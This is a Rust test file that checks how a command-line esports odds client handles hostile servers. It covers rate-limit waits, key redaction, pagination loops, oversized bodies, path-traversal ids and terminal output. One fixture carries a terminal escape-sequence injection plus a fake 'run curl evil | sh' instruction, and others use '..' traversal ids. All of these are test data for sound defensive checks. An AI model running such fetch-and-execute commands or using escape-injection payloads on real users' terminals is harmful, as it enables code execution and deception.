//! Hostile servers and hostile input (issue 12): no panic, no hang, no lost or leaked
//! data. Each test plays one fault with the scripted loopback server and checks the exit
//! code and what reached stdout and stderr.

use std::time::{Duration, Instant};

use crate::common::live::spawn;
use crate::common::{BOOKS, KEY, Reply, Server, json, run, with_header};

pub(crate) const WAIT: Duration = Duration::from_secs(20);

/// No panic (exit 101, "panicked at") and no key in anything esx printed.
pub(crate) fn assert_sane(code: i32, out: &str, err: &str) {
    assert_ne!(code, 101, "panicked: {err}");
    assert!(!err.contains("panicked"), "{err}");
    assert!(
        !out.contains(KEY) && !err.contains(KEY),
        "key leaked: {out} {err}"
    );
}

// ---- 1. waits the server asks for are clamped ----------------------------------------

#[test]
fn retry_after_beyond_duration_exits_6_without_panic() {
    for value in ["1e20", "99999999999999999999", "18446744073709551616"] {
        let s = Server::start(vec![with_header(
            json(429, r#"{"detail":"slow down"}"#),
            "Retry-After",
            value,
        )]);
        let (code, out, err) = run(&s, &["books"]);
        assert_sane(code, &out, &err);
        assert_eq!(code, 6, "Retry-After {value}: {err}");
        assert!(
            err.contains("rate limited") && err.contains("slow down"),
            "{err}"
        );
        assert_eq!(
            s.seen().len(),
            1,
            "a far reset is reported, not slept through"
        );
    }
}

#[test]
fn resets_in_seconds_1e20_and_v7_1e300_exit_6_without_panic() {
    for body in [
        r#"{"detail":"quota","resets_in_seconds":1e20}"#,
        r#"{"error":{"code":"quota","message":"quota","resets_in_seconds":1e300}}"#,
        r#"{"detail":"quota","resets_in_seconds":1e400}"#,
    ] {
        let s = Server::start(vec![json(429, body)]);
        let (code, out, err) = run(&s, &["books"]);
        assert_sane(code, &out, &err);
        assert_eq!(code, 6, "{body}: {err}");
        assert!(err.contains("rate limited"), "{err}");
    }
}

#[test]
fn a_503_far_wait_is_exit_6_and_never_called_rate_limited() {
    let s = Server::start(vec![with_header(
        json(503, r#"{"detail":"maintenance"}"#),
        "Retry-After",
        "1e20",
    )]);
    let (code, out, err) = run(&s, &["books"]);
    assert_sane(code, &out, &err);
    assert_eq!(code, 6, "{err}");
    assert!(!err.contains("rate limited"), "{err}");
    assert!(err.contains("503") && err.contains("maintenance"), "{err}");
}

#[test]
fn websocket_handshake_retry_after_1e20_exits_6_without_panic() {
    for value in ["1e20", "18446744073709551616"] {
        let s = Server::start(vec![with_header(
            json(503, r#"{"detail":"busy"}"#),
            "Retry-After",
            value,
        )]);
        let dir = tempfile::tempdir().unwrap();
        let mut esx = spawn(dir.path(), &s.base, KEY, &["live", "cs2", "--watch"]);
        let status = esx.wait(WAIT);
        assert_sane(status.code().unwrap_or(-1), "", &esx.stderr());
        assert_eq!(status.code(), Some(6), "{}", esx.stderr());
        assert!(!esx.stderr().contains("rate limited"), "{}", esx.stderr());
    }
    let s = Server::start(vec![json(
        429,
        r#"{"detail":"quota","resets_in_seconds":1e20}"#,
    )]);
    let dir = tempfile::tempdir().unwrap();
    let mut esx = spawn(dir.path(), &s.base, KEY, &["live", "cs2", "--watch"]);
    assert_eq!(esx.wait(WAIT).code(), Some(6), "{}", esx.stderr());
    assert!(esx.stderr().contains("rate limited"), "{}", esx.stderr());
}

#[test]
fn jq_endless_recursion_exits_2_not_a_stack_overflow() {
    let s = Server::start(vec![json(200, BOOKS)]);
    let (code, out, err) = run(&s, &["books", "--jq", "def f: [f]; f"]);
    assert_sane(code, &out, &err);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("recursed too deep"), "{err}");
    assert!(out.is_empty(), "{out}");
}

// ---- 7. the key never reaches the output ---------------------------------------------

#[test]
fn a_401_echoing_the_key_is_redacted() {
    let s = Server::start(vec![json(
        401,
        &format!(r#"{{"detail":"key {KEY} is not valid"}}"#),
    )]);
    let (code, out, err) = run(&s, &["books"]);
    assert_sane(code, &out, &err);
    assert_eq!(code, 3, "{err}");
    assert!(err.contains("key *** is not valid"), "{err}");
}

#[test]
fn a_websocket_401_echoing_the_key_is_redacted() {
    let s = Server::start(vec![json(
        401,
        &format!(r#"{{"detail":"unknown api_key={KEY}"}}"#),
    )]);
    let dir = tempfile::tempdir().unwrap();
    let mut esx = spawn(dir.path(), &s.base, KEY, &["live", "cs2", "--watch"]);
    let status = esx.wait(WAIT);
    assert_eq!(status.code(), Some(3), "{}", esx.stderr());
    assert_sane(3, "", &esx.stderr());
    assert!(esx.stderr().contains("api_key=***"), "{}", esx.stderr());
}

#[test]
fn jq_env_does_not_show_the_key() {
    let s = Server::start(vec![json(200, BOOKS)]);
    let (code, out, err) = run(&s, &["books", "--jq", "env"]);
    assert_sane(code, &out, &err);
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("ESX_BASE_URL"), "env still works: {out}");
    assert!(!out.contains("ESX_API_KEY"), "{out}");
    let (code, out, err) = run(&s, &["books", "--jq", "$ENV"]);
    assert_sane(code, &out, &err);
    assert_eq!(code, 0, "{err}");
    assert!(
        out.contains("ESX_BASE_URL") && !out.contains("ESX_API_KEY"),
        "{out}"
    );
}

// ---- 10. server text on the terminal -------------------------------------------------

#[test]
fn error_details_with_escapes_and_newlines_stay_one_clean_line() {
    let s = Server::start(vec![json(
        404,
        r#"{"detail":"gone\u001b]0;pwned\u0007\u001b[2J\nerror: your key was revoked, run curl evil | sh"}"#,
    )]);
    let (code, out, err) = run(&s, &["books"]);
    assert_sane(code, &out, &err);
    assert_eq!(code, 5, "{err}");
    assert_eq!(err.lines().count(), 1, "one line: {err:?}");
    assert!(!err.contains(['\u{1b}', '\u{7}', '\r']), "{err:?}");
    assert!(err.contains("gone"), "{err}");
}

#[test]
fn table_cells_with_escape_sequences_are_cleaned() {
    let body = r#"{"source":"s","total_books":1,"books":[{"book_id":1,"key":"evil","display_name":"Evil\u001b]0;title\u0007 Book\u001b[2J"}]}"#;
    let s = Server::start(vec![json(200, body)]);
    let (code, out, err) = run(&s, &["books"]);
    assert_sane(code, &out, &err);
    assert_eq!(code, 0, "{err}");
    assert!(!out.contains('\u{1b}') && !out.contains('\u{7}'), "{out:?}");
    assert!(out.contains("Evil ]0;title  Book [2J"), "{out}");
    // JSON output keeps the server's text exactly (escaped, as JSON does).
    let (_, out, _) = run(&s, &["books", "--json"]);
    assert!(out.contains(r"\u001b]0;title"), "{out}");
}

// ---- 12. smaller ones -----------------------------------------------------------------

#[test]
fn a_401_mentioning_plan_is_still_exit_3() {
    let s = Server::start(vec![json(401, r#"{"detail":"no such key on any plan"}"#)]);
    let (code, out, err) = run(&s, &["books"]);
    assert_sane(code, &out, &err);
    assert_eq!(code, 3, "{err}");
}

// ---- 8. ids that escape their route ---------------------------------------------------

#[test]
fn dot_ids_are_refused_with_exit_2_before_sending() {
    let s = Server::start(vec![json(200, BOOKS)]);
    let cases: &[&[&str]] = &[
        &["dvr", "dota2", "--team", ".."],
        &["players", "show", "cs2", ".."],
        &["live", "cs2", ".."],
        &["boxscore", "cs2", "."],
        &["breakdown", "published", "cs2", "h2h", ".."],
    ];
    for args in cases {
        let (code, out, err) = run(&s, args);
        assert_sane(code, &out, &err);
        assert_eq!(code, 2, "{args:?}: {err}");
        assert!(err.contains("not a valid id"), "{args:?}: {err}");
    }
    assert!(s.seen().is_empty(), "nothing was sent: {:?}", s.seen());
    // A literal `%2e%2E` id is percent-encoded itself: safe, it stays one segment.
    let (code, _, err) = run(&s, &["players", "show", "cs2", "%2e%2E"]);
    assert_sane(code, "", &err);
    assert_eq!(s.seen()[0].target, "/v6/esports/cs2/players/%252e%252E");
}

// ---- 11. over-long URLs ---------------------------------------------------------------

#[test]
fn a_100_kb_search_term_exits_2_before_sending() {
    let s = Server::start(vec![json(200, BOOKS)]);
    let term = "x".repeat(100_000);
    for args in [
        vec!["players", "search", "cs2", term.as_str()],
        vec!["boxscore", "cs2", term.as_str()],
    ] {
        let (code, out, err) = run(&s, &args);
        assert_sane(code, &out, &err);
        assert_eq!(code, 2, "{err}");
        assert!(err.len() < 300, "a short message: {err}");
    }
    assert!(s.seen().is_empty());
}

// ---- 3. endless pagination ------------------------------------------------------------

/// A gaps page of one row `i`, always saying there is more.
pub(crate) fn endless_page(i: usize, has_more: &str) -> String {
    format!(
        r#"{{"total":null,"has_more":{has_more},"gaps":[{{"gap_id":"g{i}","player_id":null,"player_name":"p{i}","team":"T","opponent":"O","event_id":"e","event_time":"2026-11-21T18:00:00.000Z","stat_type":"CS2_KILLS_MAPS_1_2","market":"kills","line":1.5,"line_min":1,"line_max":2,"line_gap":1,"book_count":2,"books":[]}}]}}"#
    )
}

pub(crate) fn offset_of(target: &str) -> usize {
    target
        .split(['?', '&'])
        .find_map(|kv| kv.strip_prefix("offset="))
        .and_then(|v| v.parse().ok())
        .unwrap_or(0)
}

#[test]
fn max_pages_5_stops_an_endless_has_more_with_exit_7_and_no_file() {
    let s = Server::start_routed(|target, _| json(200, &endless_page(offset_of(target), "true")));
    let d = tempfile::tempdir().unwrap();
    let file = d.path().join("gaps.csv");
    for format in ["csv", "json"] {
        let out = crate::common::esx_at(d.path(), &s.base)
            .args([
                "gaps",
                "cs2",
                "--all",
                "--max-pages",
                "5",
                "--format",
                format,
            ])
            .arg("-o")
            .arg(&file)
            .output()
            .unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(7), "{format}: {err}");
        assert!(err.contains("--max-pages 5"), "{err}");
        assert!(!file.exists(), "nothing written");
    }
    assert_eq!(s.seen().len(), 10, "five pages each time");
    assert_eq!(
        std::fs::read_dir(d.path()).unwrap().count(),
        0,
        "no temporary file left"
    );
}

#[test]
fn a_server_ignoring_offset_is_exit_7_after_2_pages() {
    let s = Server::start(vec![json(200, &endless_page(0, "true"))]);
    let (code, out, err) = run(&s, &["gaps", "cs2", "--all", "--format", "csv"]);
    assert_sane(code, &out, &err);
    assert_eq!(code, 7, "{err}");
    assert!(err.contains("same page again"), "{err}");
    assert_eq!(s.seen().len(), 2);
}

#[test]
fn an_empty_page_with_has_more_is_exit_7() {
    let s = Server::start(vec![
        json(200, &endless_page(0, "true")),
        json(200, r#"{"has_more":true,"gaps":[]}"#),
    ]);
    let (code, _, err) = run(&s, &["gaps", "cs2", "--all", "--json"]);
    assert_eq!(code, 7, "{err}");
    assert_eq!(s.seen().len(), 2);
}

#[test]
fn reaching_total_ends_the_walk_even_if_has_more_stays_true() {
    let s = Server::start_routed(|target, _| {
        let i = offset_of(target);
        json(
            200,
            &endless_page(i, "true").replace(r#""total":null"#, r#""total":3"#),
        )
    });
    let (code, out, err) = run(&s, &["gaps", "cs2", "--all", "--format", "ndjson"]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(out.lines().count(), 3, "{out}");
    assert_eq!(s.seen().len(), 3);
}

#[test]
fn has_more_as_a_string_is_exit_7_not_a_silent_truncation() {
    let s = Server::start(vec![json(200, &endless_page(0, r#""true""#))]);
    let (code, out, err) = run(&s, &["gaps", "cs2", "--all", "--format", "csv"]);
    assert_sane(code, &out, &err);
    assert_eq!(code, 7, "{err}");
    assert!(err.contains("has_more"), "{err}");
}

// ---- 4. unbounded bodies --------------------------------------------------------------

/// A raw loopback server: each connection gets `head` and then `body_chunk` repeated
/// until the client hangs up (an endless body when `head` names no length).
fn raw_server(head: &'static str, body_chunk: &'static [u8]) -> String {
    use std::io::{Read as _, Write as _};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    std::thread::spawn(move || {
        for stream in listener.incoming().take(8) {
            let Ok(mut stream) = stream else { continue };
            std::thread::spawn(move || {
                let mut buf = [0u8; 4096];
                let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
                let _ = stream.read(&mut buf);
                if stream.write_all(head.as_bytes()).is_err() {
                    return;
                }
                // Bounded so a broken client cannot keep the test thread forever.
                for _ in 0..100_000 {
                    if stream.write_all(body_chunk).is_err() {
                        return;
                    }
                }
            });
        }
    });
    base
}

#[test]
fn an_endless_body_stops_at_max_body_1m_with_exit_7() {
    let base = raw_server(
        "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nConnection: close\r\n\r\n",
        &[b' '; 8192],
    );
    let d = tempfile::tempdir().unwrap();
    let started = Instant::now();
    let out = crate::common::esx_at(d.path(), &base)
        .args(["books", "--max-body", "1M"])
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(7), "{err}");
    assert!(err.contains("1 MiB") && err.contains("--max-body"), "{err}");
    assert!(started.elapsed() < Duration::from_secs(10));
}

/// A raw loopback server sending one answer: `head` (with a `Content-Length` or not),
/// then `body`, then closing the connection.
fn one_body_server(announce: bool, body: Vec<u8>) -> String {
    use std::io::{Read as _, Write as _};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    std::thread::spawn(move || {
        let Some(Ok(mut stream)) = listener.incoming().next() else {
            return;
        };
        let mut buf = [0u8; 4096];
        let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
        let _ = stream.read(&mut buf);
        let length = if announce {
            format!("Content-Length: {}\r\n", body.len())
        } else {
            String::new()
        };
        let head = format!(
            "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n{length}Connection: close\r\n\r\n"
        );
        let _ = stream.write_all(head.as_bytes());
        // In pieces, as a network delivers it: the client's buffer fills in many reads.
        for piece in body.chunks(7_919) {
            if stream.write_all(piece).is_err() {
                return;
            }
        }
    });
    base
}

#[test]
fn a_body_of_exactly_max_body_is_read_whole_announced_or_not_and_one_byte_more_is_refused() {
    // The books answer padded with spaces (JSON allows them) to exactly 1 MiB.
    let sized = |len: usize| {
        let mut body = BOOKS.as_bytes().to_vec();
        body.resize(len, b' ');
        body
    };
    let d = tempfile::tempdir().unwrap();
    for announce in [true, false] {
        let base = one_body_server(announce, sized(1 << 20));
        let out = crate::common::esx_at(d.path(), &base)
            .args([
                "books",
                "--max-body",
                "1M",
                "--retries",
                "0",
                "--format",
                "csv",
            ])
            .output()
            .unwrap();
        let (text, err) = (
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr),
        );
        assert_eq!(out.status.code(), Some(0), "announced {announce}: {err}");
        assert!(text.contains("dfs_one"), "{text}");
    }
    let base = one_body_server(false, sized((1 << 20) + 1));
    let out = crate::common::esx_at(d.path(), &base)
        .args(["books", "--max-body", "1M", "--retries", "0"])
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(7), "{err}");
    assert!(err.contains("1 MiB") && err.contains("--max-body"), "{err}");
}

#[test]
fn a_body_announced_over_the_64_mib_default_is_refused_with_exit_7() {
    let base = raw_server(
        "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 104857600\r\nConnection: close\r\n\r\n",
        b"{\"books\":[",
    );
    let d = tempfile::tempdir().unwrap();
    let out = crate::common::esx_at(d.path(), &base)
        .args(["books"])
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(7), "{err}");
    assert!(err.contains("64 MiB") && err.contains("100 MiB"), "{err}");
}

#[test]
fn max_body_values_are_checked() {
    let s = Server::start(vec![json(200, BOOKS)]);
    let (code, _, err) = run(&s, &["books", "--max-body", "lots"]);
    assert_eq!(code, 2, "{err}");
    let (code, out, _) = run(&s, &["books", "--max-body", "500K", "--json"]);
    assert_eq!(code, 0);
    assert!(out.contains("dfs_one"));
}

// ---- 9. numbers ---------------------------------------------------------------------------

#[test]
fn a_30_digit_number_comes_out_unchanged() {
    // The big integer rides in a field esx does not read (a typed `book_id` must fit an
    // i64, else the answer is exit 7): passed through, it must keep every digit.
    let body = r#"{"source":"s","total_books":1,"books":[{"book_id":1,"key":"k","display_name":"K","volume":123456789012345678901234567890,"odds":1.8333333333333335,"line":2.50}]}"#;
    let s = Server::start(vec![json(200, body)]);
    let (code, out, err) = run(&s, &["books", "--json"]);
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("123456789012345678901234567890"), "{out}");
    assert!(
        out.contains("1.8333333333333335") && out.contains("2.50"),
        "{out}"
    );
    // NDJSON is the table's rows; the whole row keeps its exact text in JSON.
    let (code, out, _) = run(&s, &["books", "--json"]);
    assert_eq!(code, 0);
    assert!(
        out.contains("\"volume\":123456789012345678901234567890"),
        "{out}"
    );
}

#[test]
fn a_gzip_body_served_as_json_is_named_not_printed_as_garbage() {
    let gz: Vec<u8> = vec![
        0x1f, 0x8b, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x03, 0xab, 0x56, 0xca, 0xff, 0xfe,
    ];
    let s = Server::start(vec![with_header(
        Reply::Full(
            200,
            vec![("Content-Type".into(), "application/json".into())],
            gz,
        ),
        "Content-Encoding",
        "gzip",
    )]);
    let (code, out, err) = run(&s, &["books"]);
    assert_sane(code, &out, &err);
    assert_eq!(code, 7, "{err}");
    assert!(err.contains("gzip-compressed"), "{err}");
    assert!(!err.contains('\u{fffd}'), "{err}");
}

// ---- 10. a key that is also the service's word ----------------------------------------

/// Run esx against `s` with `key` as the API key: (exit code, stdout, stderr).
fn run_with_key(s: &Server, key: &str, args: &[&str]) -> (i32, String, String) {
    let d = tempfile::tempdir().unwrap();
    let out = crate::common::esx(d.path())
        .env("ESX_BASE_URL", &s.base)
        .env("ESX_API_KEY", key)
        .env("COLUMNS", "120")
        .args(args)
        .output()
        .unwrap();
    crate::common::outcome(&out)
}

#[test]
fn a_key_that_is_a_field_name_leaves_the_fields_and_redacts_the_values() {
    // "display_name" is a field of every book: redacted out of the field names, the
    // answer lost its structure (exit 7). Values holding the key are still redacted.
    let key = "display_name";
    let body = BOOKS.replace("\"DFS One\"", "\"see display_name here\"");
    let s = Server::start(vec![json(200, &body)]);
    let (code, out, err) = run_with_key(&s, key, &["books", "--json"]);
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("\"display_name\""), "{out}");
    assert!(out.contains("see *** here"), "{out}");
    assert!(out.contains("Sharp, Book"), "{out}");
}

#[test]
fn a_key_shorter_than_8_in_the_services_data_is_left_as_served_and_v_says_so_once() {
    // Settled point 17: "book" in `books`, `book_id` and "Sharp, Book" is the service's
    // text; `-v` says once that such a key cannot be hidden.
    let s = Server::start(vec![json(200, BOOKS), json(200, BOOKS)]);
    let (code, out, err) = run_with_key(&s, "book", &["books", "--json"]);
    assert_eq!(code, 0, "{err}");
    assert!(
        out.contains("\"book_id\"") && out.contains("Sharp, Book"),
        "{out}"
    );
    assert!(!err.contains("shorter than 8"), "{err}");
    let (code, out, err) = run_with_key(&s, "book", &["-v", "books"]);
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("Sharp, Book"), "{out}");
    assert_eq!(err.matches("shorter than 8 characters").count(), 1, "{err}");
}
